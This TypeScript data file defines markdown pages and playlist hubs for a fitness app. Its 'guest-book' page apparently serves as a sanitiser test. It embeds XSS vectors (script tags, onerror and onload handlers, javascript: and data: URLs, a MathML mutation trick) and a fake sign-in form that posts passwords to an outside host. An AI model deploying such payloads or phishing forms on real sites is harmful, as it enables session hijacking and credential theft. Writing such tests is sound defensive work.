import type { PlaylistName } from '../playlists/playlist-ids.ts';

/** A static page in markdown; a hub is a page of shelves. */
export interface PageWords {
  readonly slug: string;
  readonly title: string;
  readonly markdown: string;
}

export interface HubWords {
  readonly slug: string;
  readonly title: string;
  readonly description: string;
  /** Its playlists, in order. */
  readonly shelves: readonly PlaylistName[];
}

export const PAGES: readonly PageWords[] = [
  {
    slug: 'about-daybreak',
    title: 'About Daybreak',
    markdown: `## We like mornings

Daybreak is a fitness company of forty people, two studios and one idea: **training should be the easiest decision of the day**.

We have made workouts since 2016. There are more than fifty programs and over three thousand workouts here, and a new one every day in the [365 series](/app/365).

### What we believe

- Showing up beats going hard.
- Every exercise has an easier version, and using it is not cheating.
- Nobody needs to be shouted at.

### Where to find us

| | |
| --- | --- |
| Studio North | Wharf Street 12 |
| Studio South | The Old Dairy, Mill Lane |

> "I came for ten minutes. That was four years ago." *A member*`,
  },
  {
    slug: 'how-to-start',
    title: 'How to Start',
    markdown: `# How to start

You need a little room, a little time and no talent.

1. **Pick one program.** If you are new, *Iron Basics*, *Yoga Fundamentals* or *Walk It Off* are good firsts.
2. **Decide on days, not on moods.** Three a week is plenty.
3. **Take the easy version** for the first two weeks.
4. **Write down** what you did. One line is enough.

## When it hurts

Tired muscles are normal for a day or two. Sharp pain, or pain in a joint, is a reason to stop. If it stays, see a doctor, not a video.

---

Questions? Write to [support@daybreak.example](mailto:support@daybreak.example).`,
  },
  {
    slug: 'what-you-need',
    title: 'What You Need at Home',
    markdown: `# What you need at home

Most of what we publish needs **nothing at all**. If you want to buy something, buy in this order:

1. An exercise mat
2. Two pairs of dumbbells
3. A long resistance band
4. A kettlebell

## What you do not need

- A mirror
- Expensive shoes
- A reason`,
  },
  {
    slug: 'house-rules',
    title: 'House Rules for Live Classes',
    markdown: `# House rules

* Cameras may stay off.
* Trainers read every question and answer most of them.
* Arrive late, leave early, come back tomorrow.

Recordings stay in the guide for as long as the channel's catch-up window allows.`,
  },
  {
    slug: 'guest-book',
    title: 'Guest Book',
    markdown: `# Guest book

What members wrote, just as they wrote it. <script>document.title = "taken over"</script>

## Best first lines

1. "I came for the *music*."
2. "My **knees** sent me."
3. "<b>Bold</b> of you to ask." <img src="x" onerror="document.title = 'taken over'">

| Who | From | Note |
| --- | :---: | ---: |
| Ines | [Lisbon](https://en.wikipedia.org/wiki/Lisbon) | 10 |
| Bo | [Here](javascript:document.title='taken%20over') | 9 |
| Kit | <a href="java&#115;cript:document.title='taken over'">There</a> | 8 |
| Ada | [The 365](/app/365) | 10 |

- <a href="https://daybreak.example/" onclick="document.title = 'taken over'">Our old page</a>
- [A picture of a cat](data:text/html,<script>document.title='taken over'</script>)
- <svg onload="document.title = 'taken over'"></svg> a drawing that did not survive
- <iframe src="javascript:parent.document.title = 'taken over'"></iframe> a film that did not either

<form action="https://elsewhere.example/collect"><input name="password"><button>Sign in again</button></form>

<style>body { display: none }</style>

> Thank you all. <math><mtext></mtext><style><img src=x onerror="document.title = 'taken over'"></style></math>

\`<script>\` between backticks is only text.`,
  },
];

export const HUBS: readonly HubWords[] = [
  {
    slug: 'get-strong',
    title: 'Get Strong',
    description: 'Everything with weight in it, from a first pair of dumbbells to a test week.',
    shelves: ['strengthPrograms', 'dumbbells', 'kettlebell', 'heavy', 'core'],
  },
  {
    slug: 'new-here',
    title: 'New Here?',
    description: 'Short, clear and kind: where most people begin.',
    shelves: ['beginnerPrograms', 'tenMinutes', 'beginner', 'lowImpact'],
  },
  {
    slug: 'calm-down',
    title: 'Calm Down',
    description: 'Yoga, breath and sleep, for evenings and for everything else that is too loud.',
    shelves: ['yoga', 'sleep', 'recovery', 'mobility'],
  },
  {
    slug: 'sweat-it-out',
    title: 'Sweat It Out',
    description: 'Intervals, rounds, routines and hills.',
    shelves: ['hiit', 'boxing', 'dance', 'cycling', 'running'],
  },
];
